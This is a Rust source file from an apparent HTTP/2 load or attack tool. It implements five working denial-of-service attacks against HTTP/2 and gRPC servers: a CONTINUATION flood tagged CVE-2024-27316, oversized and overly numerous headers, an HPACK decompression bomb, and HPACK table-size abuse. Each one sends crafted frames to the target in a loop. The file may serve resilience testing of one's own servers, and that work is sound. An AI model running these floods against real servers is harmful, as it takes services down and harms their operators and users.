//! Headers that are endless, too many or too large, or that cost more memory than they have bytes.

use std::io;
use std::sync::atomic::{AtomicBool, Ordering};

use super::floods::CHECK;
use crate::attack::attacker::Attack;
use crate::attack::frames::{Block, CONTINUATION, END_STREAM, Frames, HEADER_TABLE_SIZE, HEADERS};
use crate::attack::wire::{Pace, Wire};

pub const ATTACKS: [Attack; 5] = [
    // CVE-2024-27316
    Attack::new("CONTINUATION flood", (2_000, "frames"), 8, |wire, pace| Box::pin(continuation(wire, pace))),
    Attack::new("many headers", (500, "requests"), 8, |wire, pace| Box::pin(many(wire, pace))),
    Attack::new("huge headers", (500, "requests"), 8, |wire, pace| Box::pin(huge(wire, pace))),
    Attack::new("HPACK bomb", (500, "requests"), 8, |wire, pace| Box::pin(bomb(wire, pace))),
    Attack::new("HPACK table sizes", (2_000, "requests"), 8, |wire, pace| Box::pin(table(wire, pace))),
];

/// Every other connection sends full frames, the others send empty frames.
async fn continuation(mut wire: Wire, pace: &mut Pace) -> io::Result<()> {
    static FULL: AtomicBool = AtomicBool::new(false);
    wire.http2().await?;
    let stream = wire.stream();
    let Block(more) = Block(Vec::new()).with("x-more", &"a".repeat(16_000));
    let more = if FULL.fetch_xor(true, Ordering::Relaxed) { more } else { Vec::new() };
    wire.send_frames(Frames::new().frame(HEADERS, 0, stream, &Block::grpc(CHECK).0)).await?;
    loop {
        wire.send_frames(Frames::new().frame(CONTINUATION, 0, stream, &more)).await?;
        pace.keep(1).await;
    }
}

/// Requests with headers below and above the limit in turn.
async fn many(wire: Wire, pace: &mut Pace) -> io::Result<()> {
    let block = |count: usize| (0..count).fold(Block::grpc(CHECK), |block, _| block.with("a", ""));
    let (within, beyond) = (block(400), block(3_000));
    requests(wire, pace, |number| if number % 2 == 0 { within.clone() } else { beyond.clone() }).await
}

async fn huge(wire: Wire, pace: &mut Pace) -> io::Result<()> {
    let block = |bytes| Block::grpc(CHECK).with("x-huge", &"a".repeat(bytes));
    let (within, beyond) = (block(15_500), block(16_200));
    requests(wire, pace, |number| if number % 2 == 0 { within.clone() } else { beyond.clone() }).await
}

/// One header of 4,000 bytes, then as many one-byte references to it as fit.
async fn bomb(wire: Wire, pace: &mut Pace) -> io::Result<()> {
    let first = Block::grpc(CHECK).remembered("x-bomb", &"a".repeat(4_000));
    let block = (0..12_000).fold(first, |block, _| block.indexed(62));
    requests(wire, pace, |_| block.clone()).await
}

/// The attacker empties and fills the server's table in turn, and offers the server a table of 4 GiB for the headers of
/// its answers, all of which are new.
async fn table(mut wire: Wire, pace: &mut Pace) -> io::Result<()> {
    wire.shake_hands(&[(HEADER_TABLE_SIZE, u32::MAX)]).await?;
    wire.drain();
    let Block(rest) = Block::grpc(CHECK).remembered("x-fills", &"a".repeat(3_900));
    let Block(mut start) = Block(Vec::new()).table_size(0).table_size(4_096);
    start.extend_from_slice(&rest);
    send_requests(wire, pace, |number| Block(start.clone()).with("x-request-id", &format!("{number:0>120}"))).await
}

async fn requests(mut wire: Wire, pace: &mut Pace, block: impl Fn(u64) -> Block) -> io::Result<()> {
    wire.http2().await?;
    send_requests(wire, pace, block).await
}

async fn send_requests(mut wire: Wire, pace: &mut Pace, block: impl Fn(u64) -> Block) -> io::Result<()> {
    const MOST: usize = 16_384;
    for number in 0.. {
        let stream = wire.stream();
        let Block(bytes) = block(number);
        let mut parts = bytes.chunks(MOST).peekable();
        let mut frames = Frames::new();
        let mut kind = HEADERS;
        while let Some(part) = parts.next() {
            let last = if parts.peek().is_none() { crate::attack::frames::END_HEADERS } else { 0 };
            let end = if kind == HEADERS { END_STREAM } else { 0 };
            frames = frames.frame(kind, last | end, stream, part);
            kind = CONTINUATION;
        }
        wire.send_frames(frames).await?;
        pace.keep(1).await;
    }
    Ok(())
}
